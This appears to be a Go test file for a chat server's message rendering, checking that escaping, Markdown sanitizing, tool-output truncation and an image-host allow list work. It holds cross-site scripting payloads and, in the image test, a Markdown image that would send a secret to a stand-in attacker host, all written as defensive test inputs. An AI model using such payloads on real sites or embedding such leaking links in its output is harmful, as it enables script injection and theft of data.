package server_test

import (
	"strings"
	"testing"

	"github.com/parley-dev/parley/config"
	"github.com/parley-dev/parley/internal/testserver"
)

// TestSanitization sends hostile and unusual text through addMessage and checks the three
// renderings: content (as stored: escaped), text (as written, minus control characters)
// and html (Markdown rendered, then sanitized).
func TestSanitization(t *testing.T) {
	t.Parallel()
	srv := testserver.New(t)
	conv := srv.CreateConversation(t, "sanitize")

	tests := []struct {
		name, in    string
		content     string // want, exactly
		text        string // want, exactly
		htmlHas     []string
		htmlHasNot  []string
		dbContentIs string // the stored column, when it matters
	}{
		{
			name: "script tag", in: `<script>alert(1)</script>hi`,
			content: `&lt;script&gt;alert(1)&lt;/script&gt;hi`, text: `<script>alert(1)</script>hi`,
			htmlHasNot:  []string{"<script", "alert(1)</script>"},
			dbContentIs: `&lt;script&gt;alert(1)&lt;/script&gt;hi`,
		},
		{
			name: "event handler attribute", in: `<img src=x onerror="alert(1)"> and <a href="javascript:alert(2)">x</a>`,
			content: `&lt;img src=x onerror=&#34;alert(1)&#34;&gt; and &lt;a href=&#34;javascript:alert(2)&#34;&gt;x&lt;/a&gt;`,
			text:    `<img src=x onerror="alert(1)"> and <a href="javascript:alert(2)">x</a>`,
			// Shown as the text it is: no element, so no attribute (xss_test.go parses the
			// html of a corpus of such inputs to check that).
			htmlHas:    []string{`&lt;img src=x onerror=&#34;alert(1)&#34;&gt; and &lt;a href=&#34;javascript:alert(2)&#34;&gt;x&lt;/a&gt;`},
			htmlHasNot: []string{"<img", "<a "},
		},
		{
			name: "markdown link with javascript url", in: `[click](javascript:alert(1)) and [ok](https://example.com)`,
			content:    `[click](javascript:alert(1)) and [ok](https://example.com)`,
			text:       `[click](javascript:alert(1)) and [ok](https://example.com)`,
			htmlHas:    []string{`href="https://example.com"`, `rel="nofollow"`},
			htmlHasNot: []string{"javascript:"},
		},
		{
			name: "control characters removed, tab newline CR kept", in: "a\u0000b\u0007c\u001bd\u007fe\u0085f\tg\nh\ri",
			content: "abcdef\tg\nh\ri", text: "abcdef\tg\nh\ri",
		},
		{
			name: "emoji and ZWJ sequences", in: "👋🏽 👩‍👩‍👧 🇺🇦", content: "👋🏽 👩‍👩‍👧 🇺🇦", text: "👋🏽 👩‍👩‍👧 🇺🇦",
		},
		{
			name: "right to left", in: "مرحبا بالعالم שלום", content: "مرحبا بالعالم שלום", text: "مرحبا بالعالم שלום",
		},
		{
			name: "combining marks and CJK", in: "e\u0301 Z\u0351\u0352 漢字 한국어", content: "e\u0301 Z\u0351\u0352 漢字 한국어", text: "e\u0301 Z\u0351\u0352 漢字 한국어",
		},
		{
			name: "code with < and &", in: "```go\nif a < b && c > d {}\n```",
			content: "```go\nif a &lt; b &amp;&amp; c &gt; d {}\n```", text: "```go\nif a < b && c > d {}\n```",
			htmlHas: []string{"<pre><code", "if a &lt; b &amp;&amp; c &gt; d {}"},
		},
		{
			name: "already escaped text stays as written", in: "&lt;b&gt; &amp;",
			content: "&amp;lt;b&amp;gt; &amp;amp;", text: "&lt;b&gt; &amp;",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, n := addFull(t, srv, conv, testserver.Text("USER", tt.in))
			if got := n["content"]; got != tt.content {
				t.Errorf("content: got %q, want %q", got, tt.content)
			}
			if got := n["text"]; got != tt.text {
				t.Errorf("text: got %q, want %q", got, tt.text)
			}
			html, _ := n["html"].(string)
			for _, s := range tt.htmlHas {
				if !strings.Contains(html, s) {
					t.Errorf("html %q lacks %q", html, s)
				}
			}
			for _, s := range tt.htmlHasNot {
				if strings.Contains(html, s) {
					t.Errorf("html %q contains %q", html, s)
				}
			}
			if tt.dbContentIs != "" {
				var stored string
				if err := srv.Store.SQL().Get(&stored, `SELECT content FROM messages WHERE id = $1`,
					strings.TrimPrefix(n["id"].(string), "msg_")); err != nil {
					t.Fatal(err)
				}
				if stored != tt.dbContentIs {
					t.Errorf("stored content: got %q, want %q", stored, tt.dbContentIs)
				}
			}
		})
	}
}

// TestToolOutputTruncated: an output over the configured size is cut before saving and
// says so, with the original size.
func TestToolOutputTruncated(t *testing.T) {
	t.Parallel()
	srv := testserver.New(t)
	conv := srv.CreateConversation(t, "")
	srv.AddMessage(t, conv, map[string]any{"toolRequest": map[string]any{"toolCalls": []any{
		map[string]any{"id": "big", "name": "cat", "arguments": map[string]any{}}}}})
	long := strings.Repeat("é", 700_000) // 1.4 MB of two-byte characters
	_, n := addFull(t, srv, conv, map[string]any{"toolResult": map[string]any{
		"toolCallId": "big", "status": "SUCCESS", "content": long, "output": map[string]any{"ok": true},
	}})
	if n["truncated"] != true {
		t.Fatalf("truncated: got %v, want true", n["truncated"])
	}
	text := n["text"].(string)
	if len(text) > 1<<20 || !strings.HasPrefix(long, text) {
		t.Errorf("text: %d bytes, want a prefix of the original of at most %d", len(text), 1<<20)
	}
	if got, want := n["originalSize"], float64(len(long)+len(`{"ok":true}`)); got != want {
		t.Errorf("originalSize: got %v, want %v", got, want)
	}
	if n["output"].(map[string]any)["ok"] != true {
		t.Errorf("small output changed: %v", n["output"])
	}
}

// TestImageHostsSetting: message html loads images only from the hosts
// render.image_hosts allows; by default every image is a link.
func TestImageHostsSetting(t *testing.T) {
	t.Parallel()
	cfg := config.Default()
	cfg.Render.ImageHosts = []string{"img.example.com"}
	servers := map[string]*testserver.Server{"default": testserver.New(t), "allowed": testserver.NewWith(t, testserver.Options{Config: &cfg})}
	const text = "![ok](https://img.example.com/a.png) ![leak](https://attacker.example/?secret=s3cret)"
	for name, srv := range servers {
		conv := srv.CreateConversation(t, "images")
		_, n := addFull(t, srv, conv, testserver.Text("ASSISTANT", text))
		html, _ := n["html"].(string)
		if !strings.Contains(html, `<a href="https://attacker.example/?secret=s3cret" rel="nofollow">leak</a>`) || strings.Contains(html, `<img src="https://attacker.example`) {
			t.Errorf("%s: html %q, want the attacker's image as a link", name, html)
		}
		if got, want := strings.Contains(html, `<img src="https://img.example.com/a.png" alt="ok">`), name == "allowed"; got != want {
			t.Errorf("%s: html %q, want the allowed host's image inline: %v", name, html, want)
		}
	}
}
